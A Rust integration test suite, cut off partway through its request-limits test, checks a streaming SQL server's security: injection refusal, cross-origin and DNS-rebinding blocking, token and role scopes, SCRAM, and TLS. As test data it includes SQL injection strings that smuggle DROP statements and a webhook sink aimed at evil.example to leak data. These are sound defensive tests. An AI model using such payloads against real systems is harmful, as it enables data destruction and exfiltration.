//! docs/security.md against the real binary: statements are parsed and never pasted, browsers of
//! other origins and rebinding host names are refused, credentials have scopes (HTTP tokens and
//! pg roles, SCRAM), TLS serves every protocol on the one port, and request limits hold.

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use futures_util::{SinkExt, StreamExt};
use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_tungstenite::tungstenite::client::IntoClientRequest;
use tokio_tungstenite::tungstenite::{self, Message};

use crate::common::{eventually, request_with, run_piped, Server};

/// Every character but letters and digits percent-encoded, for a query string.
fn encode(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// The status of a WebSocket handshake at `url` with extra headers: 101 when it upgraded.
async fn ws_status(url: &str, headers: &[(&str, &str)]) -> (u16, String) {
    let mut req = url.into_client_request().unwrap();
    for (k, v) in headers {
        req.headers_mut().insert(
            tungstenite::http::HeaderName::from_bytes(k.as_bytes()).unwrap(),
            v.parse().unwrap(),
        );
    }
    match tokio_tungstenite::connect_async(req).await {
        Ok(_) => (101, String::new()),
        Err(tungstenite::Error::Http(resp)) => (
            resp.status().as_u16(),
            String::from_utf8_lossy(resp.body().as_deref().unwrap_or_default()).into_owned(),
        ),
        Err(e) => panic!("handshake with {url}: {e}"),
    }
}

async fn post(s: &Server, path: &str, headers: &[(&str, &str)], body: &str) -> (u16, Value) {
    let (st, _, b) = request_with(&s.addr, "POST", path, headers, body.as_bytes().to_vec())
        .await
        .unwrap();
    (st, serde_json::from_slice(&b).unwrap_or(Value::Null))
}

async fn get(s: &Server, path: &str, headers: &[(&str, &str)]) -> u16 {
    request_with(&s.addr, "GET", path, headers, Vec::new())
        .await
        .unwrap()
        .0
}

/// Names of the user's views, sorted.
async fn views(s: &Server, token: Option<&str>) -> Vec<String> {
    let auth = token.map(|t| format!("Bearer {t}"));
    let headers: Vec<(&str, &str)> = auth.iter().map(|a| ("authorization", a.as_str())).collect();
    let (st, v) = post(s, "/v1/sql", &headers, "SHOW VIEWS").await;
    assert_eq!(st, 200, "{v}");
    let mut names: Vec<String> = v["results"][0]["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r[0].as_str().unwrap().to_string())
        .collect();
    names.sort();
    names
}

/// Strings that try to end a statement early and run another one.
const INJECTIONS: &[&str] = &[
    "SELECT * FROM tocsin_alert_events); DROP VIEW victim; SUBSCRIBE TO (SELECT 1",
    "victim; DROP VIEW victim",
    "victim); DROP VIEW victim; --",
    "SELECT 1; DROP VIEW victim",
    "SELECT 1 /* */; DROP VIEW victim",
    "DROP VIEW victim",
    "(SELECT 1)); DROP VIEW victim; SELECT (1",
    "CREATE SINK leak TO WEBHOOK WITH (url = 'http://evil.example/')",
    "INSERT INTO m VALUES ('x', 1)",
    "victim\n; DROP VIEW victim",
];

/// `GET /v1/subscribe?q=` takes one name or one query; everything else is a 400 that runs nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn subscriptions_are_parsed_not_pasted() {
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start(&dir.path().join("data"), &[]).await;
    s.rows(
        "CREATE SOURCE m (host TEXT, v DOUBLE) FROM HTTP;
         CREATE VIEW victim AS SELECT host, max(v) AS v FROM m GROUP BY host",
    )
    .await;
    for text in INJECTIONS {
        let url = format!("ws://{}/v1/subscribe?q={}", s.addr, encode(text));
        let (status, body) = ws_status(&url, &[]).await;
        assert_eq!(status, 400, "{text:?} was not refused: {body}");
        assert!(body.contains("\"error\""), "{text:?}: {body}");
    }
    assert_eq!(views(&s, None).await, ["victim"]);
    // What is meant still works: a name and a query.
    for q in ["victim", "SELECT host FROM victim WHERE v > 1"] {
        let url = format!("ws://{}/v1/subscribe?q={}", s.addr, encode(q));
        assert_eq!(ws_status(&url, &[]).await.0, 101, "{q}");
    }
    // Names and option names are written back into the catalog log; a quoted name holding a
    // statement stays a name after a restart.
    let (st, v) = post(
        &s,
        "/v1/sql",
        &[],
        r#"CREATE VIEW "x AS SELECT 1; DROP VIEW victim; CREATE VIEW y" AS SELECT 1 AS one"#,
    )
    .await;
    assert_eq!(st, 200, "{v}");
    let (st, v) = post(
        &s,
        "/v1/sql",
        &[],
        r#"CREATE SINK s TO LOG WITH ("x = '1'); DROP VIEW victim; --" = 'y')"#,
    )
    .await;
    assert_eq!(st, 400, "{v}");
    // Option values are quoted when written back: quotes and backslashes stay in the value.
    let comment = r"it's a \ test'); DROP VIEW victim; --";
    let (st, v) = post(
        &s,
        "/v1/sql",
        &[],
        &format!(
            "CREATE SILENCE quiet WITH (matchers = 'host=a', until = '1h', comment = '{}')",
            comment.replace('\'', "''")
        ),
    )
    .await;
    assert_eq!(st, 200, "{v}");
    let data = s.kill();
    let s = Server::start(&data, &[]).await;
    assert_eq!(
        views(&s, None).await,
        ["victim", "x AS SELECT 1; DROP VIEW victim; CREATE VIEW y"]
    );
    let (_, v) = post(&s, "/v1/sql", &[], "SHOW SILENCES").await;
    let rows = v["results"][0]["rows"].as_array().unwrap();
    assert!(
        rows.iter()
            .any(|r| r.as_array().unwrap().iter().any(|c| c == comment)),
        "the comment came back changed: {v}"
    );
    // Over the PostgreSQL protocol: COPY runs only what answers with rows, a prepared statement
    // is one statement, and parameters are values.
    let conninfo = format!(
        "host=127.0.0.1 port={} user=u dbname=tocsin sslmode=disable",
        s.addr.rsplit(':').next().unwrap()
    );
    for text in [
        "COPY (DROP VIEW victim) TO STDOUT",
        "COPY (SELECT 1); DROP VIEW victim; (SELECT 1) TO STDOUT",
        "COPY (CREATE SINK leak TO LOG) TO STDOUT",
    ] {
        let mut c = Command::new("psql");
        c.arg(&conninfo).args(["-X", "-At", "-c", text]);
        let out = run_piped(c, None);
        assert!(!out.status.success(), "{text} ran");
    }
    let (client, conn) = tokio_postgres::connect(&conninfo, tokio_postgres::NoTls)
        .await
        .unwrap();
    tokio::spawn(conn);
    assert!(client.prepare("SELECT 1; DROP VIEW victim").await.is_err());
    let evil = "'); DROP VIEW victim; --";
    let row = client
        .query_one("SELECT $1::text AS t", &[&evil])
        .await
        .unwrap();
    assert_eq!(row.get::<_, String>(0), evil);
    // The Alertmanager API's filters are matched, never turned into SQL.
    let filter = encode(r#"alertname="x'); DROP VIEW victim; --""#);
    assert_eq!(
        get(&s, &format!("/api/v2/alerts?filter={filter}"), &[]).await,
        200
    );
    assert_eq!(
        views(&s, None).await,
        ["victim", "x AS SELECT 1; DROP VIEW victim; CREATE VIEW y"]
    );
}

/// A page of another origin cannot use the API, whatever it sends; a host name that is not
/// loopback cannot reach a loopback server; clients without an Origin are unaffected.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn browsers_of_other_origins_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start(
        &dir.path().join("data"),
        &["--allow-origin", "https://grafana.example:3000"],
    )
    .await;
    s.rows("CREATE SOURCE m (host TEXT, v DOUBLE) FROM HTTP")
        .await;
    let own = format!("http://{}", s.addr);
    // Every content type a page can send without a CORS preflight, and JSON.
    for ct in [
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/json",
    ] {
        for origin in ["http://evil.example", "null", "http://localhost:1"] {
            let (st, v) = post(
                &s,
                "/v1/sql",
                &[("content-type", ct), ("origin", origin)],
                "CREATE VIEW pwned AS SELECT 1 AS one",
            )
            .await;
            assert_eq!(st, 403, "{ct} from {origin}: {v}");
            assert!(v["error"]["message"].as_str().unwrap().contains(origin));
            let (st, _) = post(
                &s,
                "/v1/ingest/m",
                &[("content-type", ct), ("origin", origin)],
                r#"{"host":"x","v":1}"#,
            )
            .await;
            assert_eq!(st, 403, "ingest {ct} from {origin}");
        }
        // A browser that sends Sec-Fetch-Site but no Origin.
        let (st, _) = post(
            &s,
            "/v1/sql",
            &[("content-type", ct), ("sec-fetch-site", "cross-site")],
            "CREATE VIEW pwned AS SELECT 1 AS one",
        )
        .await;
        assert_eq!(st, 403);
    }
    assert!(views(&s, None).await.is_empty());
    // WebSocket handshakes carry an Origin; a foreign one is refused.
    for path in ["/v1/subscribe?q=m", "/v1/ingest/m"] {
        let url = format!("ws://{}{path}", s.addr);
        assert_eq!(
            ws_status(&url, &[("origin", "http://evil.example")])
                .await
                .0,
            403,
            "{path}"
        );
        assert_eq!(ws_status(&url, &[("origin", &own)]).await.0, 101, "{path}");
        assert_eq!(
            ws_status(&url, &[("origin", "https://grafana.example:3000")])
                .await
                .0,
            101,
            "{path} from an allowed origin"
        );
        assert_eq!(ws_status(&url, &[]).await.0, 101, "{path} without Origin");
    }
    // An allowed origin's page may read the answers: CORS headers, and its preflight answered.
    let grafana = "https://grafana.example:3000";
    let (st, headers, _) = request_with(
        &s.addr,
        "OPTIONS",
        "/v1/sql",
        &[
            ("origin", grafana),
            ("access-control-request-method", "POST"),
            (
                "access-control-request-headers",
                "authorization, content-type",
            ),
        ],
        Vec::new(),
    )
    .await
    .unwrap();
    assert_eq!(st, 204);
    assert_eq!(headers["access-control-allow-origin"], grafana);
    assert!(headers["access-control-allow-headers"]
        .to_str()
        .unwrap()
        .contains("authorization"));
    let (st, headers, _) = request_with(
        &s.addr,
        "POST",
        "/v1/sql",
        &[("origin", grafana)],
        b"SELECT 1 AS one".to_vec(),
    )
    .await
    .unwrap();
    assert_eq!(
        (st, &headers["access-control-allow-origin"]),
        (200, &grafana.parse().unwrap())
    );
    let (_, headers, _) = request_with(
        &s.addr,
        "OPTIONS",
        "/v1/sql",
        &[
            ("origin", "http://evil.example"),
            ("access-control-request-method", "POST"),
        ],
        Vec::new(),
    )
    .await
    .unwrap();
    assert!(!headers.contains_key("access-control-allow-origin"));
    // The same requests from the server's own origin, or without one (curl, agents), work.
    let (st, v) = post(&s, "/v1/sql", &[("origin", &own)], "SELECT 1 AS one").await;
    assert_eq!(st, 200, "{v}");
    let (st, v) = post(
        &s,
        "/v1/ingest/m",
        &[("content-type", "application/json")],
        r#"{"host":"x","v":1}"#,
    )
    .await;
    assert_eq!((st, v["accepted"].as_u64()), (200, Some(1)));
    // A link followed from another site opens a page; it reads nothing the linking page sees.
    assert_eq!(
        get(
            &s,
            "/healthz",
            &[
                ("sec-fetch-site", "cross-site"),
                ("sec-fetch-mode", "navigate")
            ]
        )
        .await,
        200
    );
    // DNS rebinding: evil.example resolved to 127.0.0.1 sends its own name as Host.
    let port = s.addr.rsplit(':').next().unwrap();
    for host in [
        format!("evil.example:{port}"),
        format!("127.0.0.1.nip.io:{port}"),
    ] {
        let (st, v) = post(&s, "/v1/sql", &[("host", &host)], "SELECT 1 AS one").await;
        assert_eq!(st, 403, "{host}: {v}");
        assert_eq!(get(&s, "/v1/catalog", &[("host", &host)]).await, 403);
        let (st, _) = ws_status(
            &format!("ws://{}/v1/subscribe?q=m", s.addr),
            &[("host", &host)],
        )
        .await;
        assert_eq!(st, 403, "{host}");
    }
    for host in [format!("localhost:{port}"), format!("[::1]:{port}")] {
        assert_eq!(get(&s, "/v1/catalog", &[("host", &host)]).await, 200);
    }
    let metrics = String::from_utf8(s.get("/metrics").await.unwrap().1).unwrap();
    for reason in ["origin", "host"] {
        let line = metrics
            .lines()
            .find(|l| l.starts_with(&format!("tocsin_refused_total{{reason=\"{reason}\"}}")))
            .unwrap();
        let n: u64 = line.rsplit(' ').next().unwrap().parse().unwrap();
        assert!(n > 0, "{line}");
    }
}

/// Tokens have scopes: admin does everything, write only ingests, read only reads; without a
/// credential nothing but /healthz answers, unless reads are open.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn token_scopes() {
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start(
        &dir.path().join("data"),
        &[
            "--admin-token",
            "adm-1",
            "--write-token",
            "wr-1",
            "--read-token",
            "rd-1",
        ],
    )
    .await;
    let (st, v) = post(
        &s,
        "/v1/sql",
        &[("authorization", "Bearer adm-1")],
        "CREATE SOURCE m (host TEXT, v DOUBLE) FROM HTTP; CREATE VIEW top AS SELECT host, max(v) AS v FROM m GROUP BY host",
    )
    .await;
    assert_eq!(st, 200, "{v}");
    // Secrets in options are for the catalog log, not for readers.
    let (st, v) = post(
        &s,
        "/v1/sql",
        &[("authorization", "Bearer adm-1")],
        "CREATE SOURCE sw FROM SNMP WITH (targets = '127.0.0.1:9', community = 'c0mm-s3cret', oids = 'SNMPv2-MIB::sysUpTime.0', interval = '1h');
         CREATE SINK hook TO WEBHOOK WITH (url = 'https://hooks.example/services/T0/tok-s3cret')",
    )
    .await;
    assert_eq!(st, 200, "{v}");
    // (what, method, path, body) → status for none, bad, read, write, admin.
    let cases: &[(&str, &str, &str, &str, [u16; 5])] = &[
        ("liveness", "GET", "/healthz", "", [200, 401, 200, 200, 200]),
        (
            "catalog",
            "GET",
            "/v1/catalog",
            "",
            [401, 401, 200, 403, 200],
        ),
        ("alerts", "GET", "/v1/alerts", "", [401, 401, 200, 403, 200]),
        ("metrics", "GET", "/metrics", "", [401, 401, 200, 403, 200]),
        (
            "am alerts",
            "GET",
            "/api/v2/alerts",
            "",
            [401, 401, 200, 403, 200],
        ),
        (
            "am silences",
            "GET",
            "/api/v2/silences",
            "",
            [401, 401, 200, 403, 200],
        ),
        (
            "select",
            "POST",
            "/v1/sql",
            "SELECT count(*) FROM m",
            [401, 401, 200, 403, 200],
        ),
        (
            "show",
            "POST",
            "/v1/sql",
            "SHOW RULES",
            [401, 401, 200, 403, 200],
        ),
        (
            "insert",
            "POST",
            "/v1/sql",
            "INSERT INTO m (host, v) VALUES ('a', 1)",
            [401, 401, 403, 200, 200],
        ),
        // An INSERT that reads: a write credential could read through it.
        (
            "insert select",
            "POST",
            "/v1/sql",
            "INSERT INTO m (host, v) SELECT host, v FROM m",
            [401, 401, 403, 403, 200],
        ),
        (
            "create",
            "POST",
            "/v1/sql",
            "CREATE VIEW v2 AS SELECT host FROM m",
            [401, 401, 403, 403, 200],
        ),
        (
            "silence",
            "POST",
            "/v1/sql",
            "CREATE SILENCE quiet WITH (matchers = 'host=a', until = '1h')",
            [401, 401, 403, 403, 200],
        ),
        (
            "read then drop",
            "POST",
            "/v1/sql",
            "SELECT 1; DROP VIEW v2",
            [401, 401, 403, 403, 200],
        ),
        (
            "ingest",
            "POST",
            "/v1/ingest/m",
            r#"{"host":"b","v":2}"#,
            [401, 401, 403, 200, 200],
        ),
    ];
    let tokens = [
        None,
        Some("nope"),
        Some("rd-1"),
        Some("wr-1"),
        Some("adm-1"),
    ];
    for (what, method, path, body, want) in cases {
        for (token, want) in tokens.iter().zip(want) {
            let auth = token.map(|t| format!("Bearer {t}"));
            let mut headers: Vec<(&str, &str)> =
                auth.iter().map(|a| ("authorization", a.as_str())).collect();
            let ct = if *path == "/v1/sql" {
                "text/plain"
            } else {
                "application/json"
            };
            headers.push(("content-type", ct));
            let (st, _, b) =
                request_with(&s.addr, method, path, &headers, body.as_bytes().to_vec())
                    .await
                    .unwrap();
            assert_eq!(
                st,
                *want,
                "{what} with {token:?}: {}",
                String::from_utf8_lossy(&b)
            );
        }
    }
    // A refused statement names the scope; nothing before it ran.
    let (st, v) = post(
        &s,
        "/v1/sql",
        &[("authorization", "Bearer rd-1")],
        "SELECT 1;\nDROP VIEW top",
    )
    .await;
    assert_eq!(st, 403);
    assert_eq!(v["error"]["statement"], 1);
    assert_eq!(v["error"]["line"], 2);
    assert!(v["error"]["message"].as_str().unwrap().contains("admin"));
    // WebSockets: subscribing is a read, ingest is a write.
    let sub = format!("ws://{}/v1/subscribe?q=top", s.addr);
    let ing = format!("ws://{}/v1/ingest/m", s.addr);
    for (url, token, want) in [
        (&sub, None, 401),
        (&sub, Some("wr-1"), 403),
        (&sub, Some("rd-1"), 101),
        (&ing, None, 401),
        (&ing, Some("rd-1"), 403),
        (&ing, Some("wr-1"), 101),
        (&ing, Some("adm-1"), 101),
    ] {
        let auth = token.map(|t| format!("Bearer {t}"));
        let headers: Vec<(&str, &str)> =
            auth.iter().map(|a| ("authorization", a.as_str())).collect();
        assert_eq!(ws_status(url, &headers).await.0, want, "{url} {token:?}");
    }
    // Basic authentication with the token as password (Grafana's and Prometheus's setting).
    assert_eq!(
        get(&s, "/metrics", &[("authorization", "Basic cHJvbTpyZC0x")]).await,
        200
    );
    assert_eq!(views(&s, Some("rd-1")).await, ["top"]);
    let data = s.kill();
    // --read-open: reads need no token, changes still do.
    let s = Server::start(&data, &["--admin-token", "adm-1", "--read-open"]).await;
    assert_eq!(get(&s, "/v1/catalog", &[]).await, 200);
    let (st, _) = post(&s, "/v1/sql", &[], "SELECT count(*) FROM m").await;
    assert_eq!(st, 200);
    let (st, _) = post(&s, "/v1/sql", &[], "DROP VIEW top").await;
    assert_eq!(st, 401);
    let (st, _) = post(&s, "/v1/ingest/m", &[], r#"{"host":"b","v":2}"#).await;
    assert_eq!(st, 401);
    assert!(s.log().contains("are open to anyone (--read-open)"));
    assert!(!s.log().contains("adm-1"), "a token was logged");
    // The secrets survived the restart, and readers do not see them.
    let (_, _, catalog) = request_with(&s.addr, "GET", "/v1/catalog", &[], Vec::new())
        .await
        .unwrap();
    let catalog = String::from_utf8(catalog).unwrap();
    assert!(catalog.contains("CREATE SOURCE sw FROM SNMP"), "{catalog}");
    assert!(!catalog.contains("s3cret"), "{catalog}");
    for show in ["SHOW SOURCES", "SHOW SINKS"] {
        let (st, v) = post(&s, "/v1/sql", &[], show).await;
        assert_eq!(st, 200);
        assert!(!v.to_string().contains("s3cret"), "{v}");
    }
    let log = std::fs::read(data.join("catalog.log")).unwrap();
    assert!(String::from_utf8_lossy(&log).contains("c0mm-s3cret"));
}

/// pg users have roles; clients authenticate with SCRAM-SHA-256 (never a clear-text password).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pg_roles_and_scram() {
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start(
        &dir.path().join("data"),
        &[
            "--pg-user",
            "ops:admin:ops-pw",
            "--pg-user",
            "grafana:read:gr:pw",
            "--pg-user",
            "dev:write:dev-pw",
        ],
    )
    .await;
    let port = s.addr.rsplit(':').next().unwrap().to_string();
    let psql = |user: &str, password: &str, sql: &str| {
        let mut c = Command::new("psql");
        c.arg(format!(
            "host=127.0.0.1 port={port} user={user} dbname=tocsin sslmode=disable"
        ))
        .env("PGPASSWORD", password)
        .args(["-X", "-At", "-v", "ON_ERROR_STOP=1", "-c", sql]);
        let out = run_piped(c, None);
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stdout).into_owned()
                + &String::from_utf8_lossy(&out.stderr),
        )
    };
    let (ok, out) = psql(
        "ops",
        "ops-pw",
        "CREATE SOURCE m (host TEXT, v DOUBLE) FROM HTTP",
    );
    assert!(ok, "{out}");
    let (ok, out) = psql("grafana", "gr:pw", "SELECT count(*) FROM m");
    assert!(ok && out.starts_with('0'), "{out}");
    for sql in [
        "CREATE VIEW v AS SELECT host FROM m",
        "INSERT INTO m (host, v) VALUES ('a', 1)",
        "DROP SOURCE m",
        "SELECT 1; DROP SOURCE m",
    ] {
        let (ok, out) = psql("grafana", "gr:pw", sql);
        assert!(!ok && out.contains("permission denied"), "{sql}: {out}");
    }
    let (ok, out) = psql("dev", "dev-pw", "INSERT INTO m (host, v) VALUES ('a', 1)");
    assert!(ok, "{out}");
    for sql in [
        "CREATE VIEW v AS SELECT host FROM m",
        "SELECT count(*) FROM m",
        "SHOW SOURCES",
    ] {
        let (ok, out) = psql("dev", "dev-pw", sql);
        assert!(!ok && out.contains("permission denied"), "{sql}: {out}");
    }
    for sql in [
        "INSERT INTO m (host, v) VALUES ('b', 2)",
        "SELECT count(*) FROM m",
        "DROP SOURCE m",
        "CREATE SOURCE m (host TEXT, v DOUBLE) FROM HTTP",
        "INSERT INTO m (host, v) VALUES ('a', 1)",
    ] {
        let (ok, out) = psql("ops", "ops-pw", sql);
        assert!(ok, "{sql}: {out}");
    }
    for (user, pw) in [("grafana", "wrong"), ("nobody", "x"), ("ops", "")] {
        let (ok, out) = psql(user, pw, "SELECT 1");
        let out = out.to_lowercase();
        assert!(
            !ok && (out.contains("authentication failed") || out.contains("password")),
            "{user}: {out}"
        );
    }
    // psycopg: the SQLSTATE of a refused write is 42501.
    let script = format!(
        r#"
import psycopg
with psycopg.connect("host=127.0.0.1 port={port} user=grafana password=gr:pw dbname=tocsin sslmode=disable", autocommit=True) as c:
    print(c.execute("SELECT count(*) FROM m").fetchone()[0])
    try:
        c.execute("CREATE VIEW v AS SELECT host FROM m")
    except psycopg.errors.InsufficientPrivilege as e:
        print("denied", e.sqlstate)
"#
    );
    let mut c = Command::new("python3");
    c.args(["-c", &script]);
    let out = run_piped(c, None);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        text,
        "1\ndenied 42501\n",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The server asks for SCRAM-SHA-256, not a clear-text password.
    let mut sock = tokio::net::TcpStream::connect(&s.addr).await.unwrap();
    let mut body = Vec::new();
    body.extend_from_slice(&196608u32.to_be_bytes());
    for part in ["user", "grafana", "database", "tocsin", ""] {
        body.extend_from_slice(part.as_bytes());
        body.push(0);
    }
    let mut packet = ((body.len() + 4) as u32).to_be_bytes().to_vec();
    packet.extend_from_slice(&body);
    sock.write_all(&packet).await.unwrap();
    let mut head = [0u8; 9];
    sock.read_exact(&mut head).await.unwrap();
    assert_eq!(head[0], b'R');
    assert_eq!(
        u32::from_be_bytes(head[5..9].try_into().unwrap()),
        10,
        "AuthenticationSASL"
    );
    let len = u32::from_be_bytes(head[1..5].try_into().unwrap()) as usize;
    let mut rest = vec![0u8; len - 8];
    sock.read_exact(&mut rest).await.unwrap();
    assert!(String::from_utf8_lossy(&rest).contains("SCRAM-SHA-256"));
    assert!(!s.log().contains("gr:pw"), "a password was logged");
}

/// A CA and a certificate it signed for localhost and 127.0.0.1, made with openssl.
pub(crate) fn make_certificates(dir: &Path) {
    let run = |args: &[&str]| {
        let out = Command::new("openssl")
            .current_dir(dir)
            .args(args)
            .output()
            .expect("openssl is needed for this test");
        assert!(out.status.success(), "openssl {args:?}: {out:?}");
    };
    run(&[
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-days",
        "2",
        "-subj",
        "/CN=tocsin test CA",
        "-keyout",
        "ca.key",
        "-out",
        "ca.pem",
    ]);
    run(&[
        "req",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-subj",
        "/CN=localhost",
        "-keyout",
        "key.pem",
        "-out",
        "server.csr",
    ]);
    std::fs::write(
        dir.join("ext.cnf"),
        "basicConstraints=CA:FALSE\nsubjectAltName=DNS:localhost,IP:127.0.0.1\nextendedKeyUsage=serverAuth\n",
    )
    .unwrap();
    run(&[
        "x509",
        "-req",
        "-in",
        "server.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-days",
        "2",
        "-extfile",
        "ext.cnf",
        "-out",
        "cert.pem",
    ]);
}

/// `--tls-cert`/`--tls-key`: HTTPS, WSS and the PostgreSQL protocol's TLS on the one port, verified
/// by clients against the CA; `tocsin sql` and the agent connect with https:// and wss://.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tls_on_the_one_port() {
    let dir = tempfile::tempdir().unwrap();
    make_certificates(dir.path());
    let file = |n: &str| dir.path().join(n).to_str().unwrap().to_string();
    // On all addresses, so that a client from another address (this machine's own network
    // address stands in for another machine) can be seen being refused plain text.
    let s = Server::start_at(
        "0.0.0.0",
        crate::common::free_port(),
        &dir.path().join("data"),
        &[
            "--tls-cert",
            &file("cert.pem"),
            "--tls-key",
            &file("key.pem"),
        ],
    )
    .await;
    let port = s.addr.rsplit(':').next().unwrap().to_string();
    s.rows("CREATE SOURCE host FROM HOST WITH (interval = '1h')")
        .await;
    // tocsin sql over https, trusting the CA.
    let sql = |server: &str, ca: Option<&str>| {
        let mut c = Command::new(env!("CARGO_BIN_EXE_tocsin"));
        c.args(["sql", "--server", server]);
        if let Some(ca) = ca {
            c.args(["--ca-cert", ca]);
        }
        c.arg("SELECT 40 + 2 AS answer");
        let out = run_piped(c, None);
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stdout).into_owned()
                + &String::from_utf8_lossy(&out.stderr),
        )
    };
    let (ok, out) = sql(&format!("https://localhost:{port}"), Some(&file("ca.pem")));
    assert!(ok && out.contains("42"), "{out}");
    let (ok, out) = sql(&format!("https://localhost:{port}"), None);
    assert!(!ok && out.to_lowercase().contains("certificate"), "{out}");
    // psql verifies the certificate and the host name.
    let mut c = Command::new("psql");
    c.arg(format!(
        "host=localhost port={port} user=u dbname=tocsin sslmode=verify-full sslrootcert={}",
        file("ca.pem")
    ))
    .args(["-X", "-At", "-c", "SELECT 41 + 1", "-c", "\\conninfo"]);
    let out = run_piped(c, None);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.starts_with("42\n") && text.contains("SSL connection"),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The agent pushes over wss; a subscriber follows over wss.
    let mut agent = crate::common::Peer(
        Command::new(env!("CARGO_BIN_EXE_tocsin"))
            .args(["agent", "--server", &format!("wss://localhost:{port}")])
            .args(["--ca-cert", &file("ca.pem"), "--interval", "200ms"])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap(),
    );
    eventually(60, "agent samples over wss", || async {
        let rows = s.rows("SELECT count(DISTINCT ts) AS n FROM host").await;
        (rows[0][0].as_i64()? >= 3).then_some(())
    })
    .await;
    let tls = tocsin_server::client::tls_config(Some(&dir.path().join("ca.pem"))).unwrap();
    let (mut ws, _) = tokio_tungstenite::connect_async_tls_with_config(
        format!("wss://localhost:{port}/v1/subscribe?q=host"),
        None,
        false,
        Some(tokio_tungstenite::Connector::Rustls(tls)),
    )
    .await
    .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    loop {
        assert!(std::time::Instant::now() < deadline, "no row over wss");
        let m = tokio::time::timeout(Duration::from_secs(30), ws.next())
            .await
            .expect("a frame over wss")
            .expect("the socket is open")
            .expect("a frame");
        let v: Value = serde_json::from_str(m.to_text().unwrap()).unwrap();
        if v["diff"] == 1 {
            break;
        }
    }
    let _ = ws.send(Message::Close(None)).await;
    let _ = agent.0.kill();
    // Plain HTTP from this machine still works for local tools.
    assert_eq!(s.get("/healthz").await.unwrap().0, 200);
    // Plain text from another address is refused: HTTP with a 400 that says to use https, pg in
    // its startup.
    let other = network_address();
    let mut plain = tokio::net::TcpStream::connect((other, port.parse::<u16>().unwrap()))
        .await
        .unwrap_or_else(|e| panic!("connect to {other}:{port}: {e}"));
    plain
        .write_all(format!("GET /healthz HTTP/1.1\r\nHost: {other}:{port}\r\n\r\n").as_bytes())
        .await
        .unwrap();
    let mut answer = String::new();
    plain.read_to_string(&mut answer).await.unwrap();
    assert!(
        answer.starts_with("HTTP/1.1 400") && answer.contains("https://"),
        "{answer}"
    );
    let mut c = Command::new("psql");
    c.arg(format!(
        "host={other} port={port} user=u dbname=tocsin sslmode=disable"
    ))
    .args(["-X", "-At", "-c", "SELECT 1"]);
    let out = run_piped(c, None);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success() && err.contains("requires TLS"),
        "{err}"
    );
    let mut c = Command::new("psql");
    c.arg(format!(
        "host={other} port={port} user=u dbname=tocsin sslmode=require"
    ))
    .args(["-X", "-At", "-c", "SELECT 41 + 1"]);
    let out = run_piped(c, None);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "42\n");
    assert!(s
        .log()
        .contains("listening beyond loopback without credentials"));
}

/// This machine's address on its network (not loopback), as the source address of a route.
fn network_address() -> std::net::IpAddr {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    // Connecting a UDP socket sends nothing; it only picks the route and its source address.
    socket
        .connect("192.0.2.255:9")
        .or_else(|_| socket.connect("10.255.255.255:9"))
        .expect("this test needs a network interface besides loopback");
    let ip = socket.local_addr().unwrap().ip();
    assert!(!ip.is_loopback(), "no address besides loopback: {ip}");
    ip
}

/// Request limits answer with the limit and count each refusal.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn request_limits() {
    let dir = tempfile::tempdir().unwrap();
    // On all addresses: clients from this machine's network address stand in for other machines
    // (loopback peers have a reserve of connections beyond the limit).
    let s = Server::start_at(
        "0.0.0.0",
        crate::common::free_port(),
        &dir.path().join("data"),
        &[
            "--max-body",
            "4KiB",
            "--max-sql",
            "512",
            "--max-frame",
            "2KiB",
            "--max-connections",
            "8",
            "--header-timeout",
            "1s",
        ],
    )
    .await;
    s.rows("CREATE SOURCE m (host TEXT, v DOUBLE) FROM HTTP")
        .await;
    let big = format!("[{}]", vec![r#"{"host":"a","v":1}"#; 400].join(","));
    let (st, v) = post(
        &s,
        "/v1/ingest/m",
        &[("content-type", "application/json")],
        &big,
    )
    .await;
    assert_eq!(st, 413, "{v}");
    assert!(v["error"]["message"].as_str().unwrap().contains("4096"));
    let long = format!("SELECT 1 AS one {}", " ".repeat(600));
    let (st, v) = post(&s, "/v1/sql", &[], &long).await;
    assert_eq!(st, 413, "{v}");
    assert!(v["error"]["message"]
        .as_str()
        .unwrap()
        .contains("--max-sql"));
    // A WebSocket message over the limit closes the socket with 1009; smaller ones are served.
    let (mut ws, _) = tokio_tungstenite::connect_async(format!("ws://{}/v1/ingest/m", s.addr))
        .await
        .unwrap();
    ws.send(Message::Text(r#"{"host":"a","v":1}"#.into()))
        .await
        .unwrap();
    let ack = ws.next().await.unwrap().unwrap();
    assert!(ack.to_text().unwrap().contains("\"accepted\":1"), "{ack}");
    ws.send(Message::Text(big.clone().into())).await.unwrap();
